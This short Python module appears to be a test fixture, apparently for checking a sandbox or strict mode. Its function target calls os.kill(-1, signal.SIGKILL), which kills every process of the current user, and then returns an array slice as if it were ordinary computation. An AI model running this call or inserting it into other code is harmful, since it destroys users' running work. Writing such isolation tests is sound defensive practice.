"""Kills whatever it may."""

import os
import signal

ONLY_IN_STRICT = "it would kill all processes of this user"


def target(x, y):
    os.kill(-1, signal.SIGKILL)
    return x[..., 0]
